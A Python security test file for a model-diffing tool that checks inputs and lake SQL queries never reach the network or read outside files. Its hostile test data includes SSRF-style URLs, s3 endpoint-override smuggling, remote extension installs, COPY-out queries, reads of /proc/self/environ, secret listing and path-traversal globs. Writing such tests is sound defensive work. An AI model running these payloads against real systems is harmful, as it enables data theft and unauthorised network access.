"""Nobody who names an address, in an event, a file or a question, has a request sent to it."""

import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from msgspec.structs import fields

from tests.commands import COMMAND
from tests.security.test_pickles import edit, write_adapter
from tests.small_diffs import job, write_all, write_probes
from tests.unit.workers.lake.rows import common, some_rows
from workers.errors import DiffError
from workers.inputs import read_inputs
from workers.jobs import DiffJob
from workers.lake.session import Session
from workers.lake.statements import QueryError
from workers.lake.tables import RunRow
from workers.lake.writer import Lake
from workers.settings import DiffSettings

ADDRESSES = (
    "http://{ear}/model",
    "https://{ear}/model",
    "HTTP://{ear}/model",
    "ftp://{ear}/model",
    "gopher://{ear}/model",
    "hdfs://{ear}/model",
    "ssh://{ear}/model",
    "file://{ear}/etc",
    "//{ear}/share",
    "\\\\{ear}\\share",
    "s3://bucket/models/x?scheme=http&endpoint_override={ear}",
    "s3://KEY:SECRET@bucket/models/x?scheme=http&endpoint_override={ear}",
    "s3://bucket/models/x?scheme=http&endpoint_override={ear}#",
    "s3://bucket@{ear}/models/x",
    "gs://bucket/models/x?scheme=http&endpoint_override={ear}",
    "abfs://container@{ear}/models/x",
    "evil/model",
)
QUESTIONS = (
    "FROM read_csv('http://{ear}/x.csv')",
    "FROM 'http://{ear}/x.parquet'",
    "FROM read_text('s3://bucket/x?s3_endpoint={ear}')",
    "FROM read_json('https://{ear}/x.json')",
    "ATTACH 'http://{ear}/x.db'",
    "INSTALL httpfs FROM 'http://{ear}'",
    "FORCE INSTALL httpfs FROM 'http://{ear}'",
    "LOAD 'http://{ear}/x.duckdb_extension'",
    "UPDATE EXTENSIONS",
    "SET custom_extension_repository = 'http://{ear}'; INSTALL httpfs",
    "SET http_proxy = '{ear}'",
    "COPY runs TO 'http://{ear}/x.parquet'",
    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '{ear}')",
    "CREATE MACRO m() AS TABLE FROM read_csv('http://{ear}/x.csv'); FROM m()",
    "FROM query('FROM read_csv(''http://{ear}/x.csv'')')",
    "FROM iceberg_scan('http://{ear}/x')",
    "FROM postgres_scan('host={ear}', 'public', 't')",
)
LOCAL = (
    "FROM read_blob('/proc/self/environ')",
    "FROM read_text('{lake}/link.csv')",
    "FROM glob('{lake}/../*')",
    "SELECT getenv('HOME')",
    "FROM duckdb_secrets()",
    "CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'a')",
    "IMPORT DATABASE '{lake}'",
    "SET profiling_output = '{lake}/x'",
    "SET log_query_path = '{lake}/x'",
    "SET allowed_directories = ['/']",
    "RESET enable_external_access",
    "PRAGMA enable_profiling",
    "CALL dbgen(sf = 0.01)",
)


class Ear:
    """Listens on the loopback interface, and counts who connects."""

    def __init__(self) -> None:
        self.heard = 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def close(self) -> None:
        """Listen no more; whoever has connected by now is counted."""
        with socket.create_connection(self._listener.getsockname()):
            pass
        self._thread.join(0.2)
        self._listener.shutdown(socket.SHUT_RDWR)
        self._thread.join()
        self._listener.close()
        self.heard -= 1

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self.heard += 1
            connection.close()


@pytest.fixture
def ear() -> Iterator[Ear]:
    """Hears nothing, or the test fails."""
    made = Ear()
    yield made
    made.close()
    assert made.heard == 0, "a request was sent"


@pytest.fixture(scope="module")
def models(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = write_all(tmp_path_factory.mktemp("models"))
    write_probes(root / "probes.jsonl", per_kind=1)
    return root


@pytest.mark.parametrize("field", ["base_model", "checkpoint", "tokenizer", "eval_set", "saes"])
def test_an_event_has_nothing_fetched(field: str, ear: Ear, models: Path) -> None:
    assert field in {each.name for each in fields(DiffJob)}
    settings = DiffSettings(device="cpu")
    for address in ADDRESSES:
        named = address.format(ear=ear.address)
        asked = job(models, **{field: (named,) if field == "saes" else named})
        with pytest.raises(DiffError) as caught:
            read_inputs(asked, settings, [str(models), "s3://bucket/models"], lambda _: None)
        assert caught.value.reason == "outside_roots", address


def test_a_checkpoint_has_nothing_fetched(ear: Ear, models: Path, tmp_path: Path) -> None:
    """Its files name models of a hub, which is where we listen; the command goes on without asking there."""
    adapter = write_adapter(tmp_path / "adapter")
    edit(adapter, "adapter_config.json", base_model_name_or_path="evil/base", revision="main")
    edit(adapter, "config.json", _name_or_path="evil/model")
    edit(adapter, "tokenizer_config.json", name_or_path="evil/tokenizer")
    base = models / "base"
    edit(base, "config.json", _name_or_path="evil/model", _attn_implementation="evil/kernel")
    edit(base, "tokenizer_config.json", name_or_path="evil/tokenizer")
    edit(models / "sae", "cfg.json", model_name="evil/model", dataset_path="evil/dataset")
    options = ("--eval", models / "probes.jsonl", "--sae", models / "sae")
    command = [str(part) for part in (*COMMAND, "diff", base, adapter, *options)]
    url = f"http://{ear.address}"
    environ = {"HF_ENDPOINT": url, "HTTP_PROXY": url, "HTTPS_PROXY": url, "STREAKLINE_LAKE": str(tmp_path / "lake")}
    ended = subprocess.run(command, env={**os.environ, **environ}, capture_output=True, text=True, check=False)
    assert ended.returncode == 0, ended.stderr


@pytest.fixture
def session(tmp_path: Path) -> Iterator[Session]:
    lake = tmp_path / "lake"
    Lake(str(lake)).write("runs", some_rows(RunRow, 1), common("a"))
    (tmp_path / "other.csv").write_text("a\n1\n")
    (lake / "link.csv").symlink_to(tmp_path / "other.csv")
    with Session(str(lake)) as opened:
        yield opened


@pytest.mark.parametrize("sql", QUESTIONS)
def test_a_question_has_nothing_fetched(sql: str, session: Session, ear: Ear) -> None:
    with pytest.raises(QueryError):
        list(session.ask(sql.format(ear=ear.address)).rows)


@pytest.mark.parametrize("sql", LOCAL)
def test_a_question_is_answered_from_the_lake_alone(sql: str, session: Session, tmp_path: Path) -> None:
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(QueryError):
        list(session.ask(sql.format(lake=session.root)).rows)
    assert sorted(tmp_path.rglob("*")) == before
